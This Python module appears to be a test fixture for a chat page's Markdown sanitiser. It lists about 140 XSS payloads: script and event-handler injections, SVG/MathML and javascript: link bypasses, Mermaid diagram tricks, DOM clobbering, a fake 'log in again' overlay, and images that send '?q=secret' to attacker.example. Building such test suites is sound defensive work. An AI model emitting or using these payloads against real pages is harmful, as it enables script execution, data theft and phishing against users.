"""Answers that would have the page run what a model, or whoever it read, wrote.

Each calls `pwned()` where it succeeds, or leads away, or asks a stranger's server. They are
Markdown as a model sends it.
"""

from collections.abc import Mapping

_JS = "pwned()"
_AWAY = "https://attacker.example"
_SVG_NAME = "http://www.w3.org/2000/svg"

#: Scripts written out, in every wrapping in which a sanitiser has once let one through.
_SCRIPTS = {
    "script": f"<script>{_JS}</script>",
    "script in capitals": f"<ScRiPt>{_JS}</sCrIpT>",
    "script with a slash": f"<script/x>{_JS}</script>",
    "script within script": f"<scr<script>ipt>{_JS}</scr</script>ipt>",
    "script from elsewhere": f'<script src="{_AWAY}/x.js"></script>',
    "script from data": f'<script src="data:text/javascript,{_JS}"></script>',
    "module script": f'<script type="module">{_JS}</script>',
    "script after a comment": f"<!--><script>{_JS}</script>-->",
    "script after an odd comment": f"<!--!><img src=x onerror={_JS}>-->",
    "script left open": f"<script>{_JS}//",
    "script in a title": f"<title><script>{_JS}</script></title>",
    "script in a textarea": f"</textarea><script>{_JS}</script>",
    "script in a template": f"<template><script>{_JS}</script></template>",
    "script in a declared shadow": (
        f'<div><template shadowrootmode="open"><script>{_JS}</script></template></div>'
    ),
    "script in noscript": f'<noscript><p title="</noscript><img src=x onerror={_JS}>"></noscript>',
    "script in cdata": f"<![CDATA[<script>{_JS}</script>]]>",
    "script in a processing instruction": f"<?x ><script>{_JS}</script>?>",
    "script by a base": f'<base href="{_AWAY}/"><script src="x.js"></script>',
    "script in a frame's document": f'<iframe srcdoc="<script>parent.{_JS}</script>"></iframe>',
}
_HANDLERS = {
    "image that fails": f"<img src=x onerror={_JS}>",
    "image that fails, quoted": f'<img src="x" onerror="{_JS}">',
    "image with a slash": f"<img/src=x/onerror={_JS}>",
    "image left open": f"<img src=x onerror={_JS} ",
    "image with a broken quote": f'<img """><img src=x onerror={_JS}>"',
    "image that loads": (
        f'<img src="data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=" onload="{_JS}">'
    ),
    "image by entities": "<img src=x onerror=&#112;&#119;&#110;&#101;&#100;&#40;&#41;>",
    "body": f"<body onload={_JS}>",
    "page shown": f"<body onpageshow={_JS}>",
    "focus": f"<input autofocus onfocus={_JS}>",
    "focus by tabindex": f"<p tabindex=0 autofocus onfocus={_JS}>x</p>",
    "blur": f"<input autofocus onblur={_JS}><input autofocus>",
    "details": f"<details open ontoggle={_JS}><summary>x</summary></details>",
    "popover": f"<p id=pop popover onbeforetoggle={_JS}>x</p><button popovertarget=pop>x</button>",
    "marquee": f"<marquee onstart={_JS}>x</marquee>",
    "video": f"<video><source onerror={_JS}></video>",
    "audio": f"<audio src=x onerror={_JS}></audio>",
    "animation": (
        f"<style>@keyframes k{{}}</style><p style='animation-name:k' onanimationstart={_JS}>x</p>"
    ),
    "transition": f"<p style='transition:all 1s' ontransitionend={_JS}>x</p>",
    "scroll": f"<p style='overflow:auto;height:9px' onscroll={_JS}>x<br>x<br>x</p>",
    "pointer": f"<p onpointerenter={_JS} onmouseover={_JS}>touch me</p>",
    "content visible": (
        f"<p oncontentvisibilityautostatechange={_JS} style='content-visibility:auto'>x</p>"
    ),
}
_SVG = {
    "svg that loads": f"<svg onload={_JS}></svg>",
    "svg with a script": f"<svg><script>{_JS}</script></svg>",
    "svg with a linked script": f'<svg><script href="data:text/javascript,{_JS}"></script></svg>',
    "svg that animates a link": (
        f'<svg><a><animate attributeName=href values="javascript:{_JS}"/>'
        "<text y=20>x</text></a></svg>"
    ),
    "svg that sets a handler": f'<svg><set attributeName=onmouseover to="{_JS}"/></svg>',
    "svg that begins": f"<svg><animate onbegin={_JS} attributeName=x dur=1s></animate></svg>",
    "svg that uses": (
        '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>'
        f'<script>{_JS}</script></svg>#x"/></svg>'
    ),
    "svg with a foreign object": (
        f"<svg><foreignObject><iframe srcdoc='<script>parent.{_JS}</script>'>"
        "</iframe></foreignObject></svg>"
    ),
    "svg style": f"<svg></p><style><a id='</style><img src=x onerror={_JS}>'></svg>",
    "svg image": f'![x](data:image/svg+xml,<svg xmlns="{_SVG_NAME}" onload="{_JS}"/>)',
    "mathml style": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f"<img title='--&gt;&lt;img src=1 onerror={_JS}&gt;'>"
    ),
    "mathml link": (
        f'<math><maction actiontype="statusline" xlink:href="javascript:{_JS}">x</maction></math>'
    ),
    "mathml in a form": (
        "<form><math><mtext></form><form><mglyph><style></math>"
        f"<img src onerror={_JS}></style></mglyph></form>"
    ),
    "mathml annotation": (
        f'<math><annotation-xml encoding="text/html"><img src=x onerror={_JS}>'
        "</annotation-xml></math>"
    ),
}
_LINKS = {
    "link": f"[x](javascript:{_JS})",
    "link in capitals": f"[x](JaVaScRiPt:{_JS})",
    "link in angles": f"[x](<javascript:{_JS}>)",
    "link by an entity": f"[x](javascript&colon;{_JS})",
    "link by a number": f"[x](&#x6A;avascript:{_JS})",
    "link with a tab": f"[x](<java\tscript:{_JS}>)",
    "link with a tab by an entity": f"[x](java&Tab;script:{_JS})",
    "link with a newline by an entity": f"[x](java&NewLine;script:{_JS})",
    "link with a control character": f"[x](\x01javascript:{_JS})",
    "link with a blank": f"[x]( javascript:{_JS})",
    "link by percents": f"[x](javascript%3A{_JS})",
    "link by reference": f"[x][y]\n\n[y]: javascript:{_JS}",
    "link by itself": f"<javascript:{_JS}>",
    "link to data": f"[x](data:text/html,<script>opener.{_JS}</script>)",
    "link to encoded data": "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "link by vbscript": "[x](vbscript:pwned())",
    "link to a blob": "[x](blob:https://attacker.example/1)",
    "link to a file": "[x](file:///etc/passwd)",
    "link with a broken title": f'[x](https://example.com "\\" onmouseover={_JS} ")',
    "link with quotes": f'[x](https://example.com/"onmouseover="{_JS})',
    "image by javascript": f"![x](javascript:{_JS})",
    "image with a broken text": f'![x" onerror="{_JS}](y)',
    "link in html": f'<a href="javascript:{_JS}">x</a>',
    "link in html with a tab": f'<a href="jav&#x09;ascript:{_JS}">x</a>',
    "area": f'<map name=m><area shape=default href="javascript:{_JS}"></map><img usemap=#m>',
}
_OTHERS = {
    "frame": f'<iframe src="javascript:parent.{_JS}"></iframe>',
    "frame of elsewhere": f'<iframe src="{_AWAY}/"></iframe>',
    "object": f'<object data="javascript:{_JS}"></object>',
    "embed": f'<embed src="javascript:{_JS}">',
    "form": f'<form action="javascript:{_JS}"><button>x</button></form>',
    "form to elsewhere": f'<form action="{_AWAY}/"><input name=q value=1><button>x</button></form>',
    "button's form": f'<form id=f></form><button form=f formaction="javascript:{_JS}">x</button>',
    "refresh": f'<meta http-equiv="refresh" content="0;url=javascript:{_JS}">',
    "refresh to elsewhere": f'<meta http-equiv="refresh" content="0;url={_AWAY}/">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "import": f'<link rel="import" href="{_AWAY}/x.html">',
    "style sheet": f'<link rel="stylesheet" href="{_AWAY}/x.css">',
    "preload": f'<link rel="preload" as="image" href="{_AWAY}/x.png">',
    "style that asks": f"<style>@import '{_AWAY}/x.css'; body{{background:url({_AWAY}/y)}}</style>",
    "style of an element": f'<p style="background:url({_AWAY}/y)">x</p>',
    "image that tells": f"![what was said]({_AWAY}/?q=secret)",
    "image that tells, in html": f'<img src="{_AWAY}/?q=secret">',
    "image set": f'<img srcset="{_AWAY}/a 1x, {_AWAY}/b 2x">',
    "picture": f'<picture><source srcset="{_AWAY}/a"><img src=x></picture>',
    "video poster": f'<video poster="{_AWAY}/a"></video>',
    "input image": f'<input type=image src="{_AWAY}/a">',
    "clobbered document": "<form id=document><input name=cookie></form><img name=body>",
    "clobbered page": "<a id=app></a><form name=app><input name=innerHTML></form>",
    "covering all": (
        '<div style="position:fixed;inset:0;z-index:9999;background:red">'
        f'<a href="{_AWAY}/">log in again</a></div>'
    ),
}
_MARKDOWN = {
    "code": f"```html\n<img src=x onerror={_JS}>\n```",
    "code left open": f"```html\n</code></pre><img src=x onerror={_JS}>",
    "code's language": f'```"><img src=x onerror={_JS}>\nx\n```',
    "inline code": f"`</code><img src=x onerror={_JS}>`",
    "table": f"| a |\n|---|\n| <img src=x onerror={_JS}> |",
    "heading": f"# <img src=x onerror={_JS}>",
    "quote": f"> <img src=x onerror={_JS}>",
    "list": f"- <img src=x onerror={_JS}>\n- x",
    "half a tag": f"<img src=x onerror={_JS}\n\n>",
    "maths": f"$\\href{{javascript:{_JS}}}{{x}}$",
    "maths by url": f"$\\url{{javascript:{_JS}}}$",
    "maths by html": f"$\\htmlData{{onclick={_JS}}}{{x}}$",
    "maths by a style": f"$\\htmlStyle{{background:url({_AWAY}/y)}}{{x}}$",
    "maths by an image": f"$\\includegraphics[height=1em]{{{_AWAY}/y}}$",
    "maths that fails": f"$\\frac{{<img src=x onerror={_JS}>$",
    "maths that defines itself": "$\\def\\a{\\a\\a}\\a$",
}


def _diagram(text: str) -> str:
    return f"```mermaid\n{text}\n```"


#: Diagrams: as text they are code, and drawn they are in a frame of their own.
DIAGRAMS: Mapping[str, str] = {
    "diagram": _diagram(f'graph TD\n  A["<img src=x onerror={_JS}>"]\n  click A call {_JS}'),
    "diagram's link": _diagram(f'graph TD\n  A-->B\n  click A "javascript:{_JS}"'),
    "diagram's link by href": _diagram(
        f'graph TD\n  A-->B\n  click A href "javascript:{_JS}" _top'
    ),
    "diagram's link away": _diagram(f'graph TD\n  A-->B\n  click A href "{_AWAY}/" _self'),
    "diagram's label with a link": _diagram(f"graph TD\n  A[\"<a href='javascript:{_JS}'>x</a>\"]"),
    "diagram's label with a frame": _diagram(
        f"graph TD\n  A[\"<iframe srcdoc='<script>top.{_JS}</script>'></iframe>\"]"
    ),
    "diagram's label with an svg": _diagram(f'graph TD\n  A["<svg onload={_JS}></svg>"]'),
    "diagram's label in maths": _diagram(f'graph TD\n  A["$$\\\\href{{javascript:{_JS}}}{{x}}$$"]'),
    "diagram's settings": _diagram(
        '%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD\n'
        f'  A["<img src=x onerror={_JS}>"]\n  click A call {_JS}'
    ),
    "diagram's settings in front": _diagram(
        "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\ngraph TD\n"
        f'  A["<img src=x onerror={_JS}>"]\n  click A call {_JS}'
    ),
    "diagram's style": _diagram(
        f"%%{{init: {{'themeCSS': '@import \"{_AWAY}/x.css\"'}}}}%%\ngraph TD\n  A-->B"
    ),
    "diagram's font": _diagram(
        f"%%{{init: {{'fontFamily': 'x}} *{{background:url({_AWAY}/y)}}'}}}}%%\ngraph TD\n  A-->B"
    ),
    "diagram's image": _diagram(f'graph TD\n  A@{{ img: "{_AWAY}/x.png", label: "x" }}'),
    "diagram's class": _diagram(
        f"graph TD\n  A-->B\n  classDef k fill:url({_AWAY}/x.svg#y)\n  class A k"
    ),
    "sequence's link": _diagram(
        f"sequenceDiagram\n  Alice->>Bob: x\n  link Alice: y @ javascript:{_JS}"
    ),
    "class's call": _diagram(f'classDiagram\n  class A\n  click A call {_JS} "x"'),
    "gantt's link": _diagram(
        "gantt\n  dateFormat YYYY-MM-DD\n  section S\n  T :t1, 2024-01-01, 3d\n"
        f'  click t1 href "javascript:{_JS}"'
    ),
}

#: (name, Markdown) of each.
ATTACKS: tuple[tuple[str, str], ...] = tuple(
    (name, text)
    for group in (_SCRIPTS, _HANDLERS, _SVG, _LINKS, _OTHERS, _MARKDOWN, DIAGRAMS)
    for name, text in group.items()
)
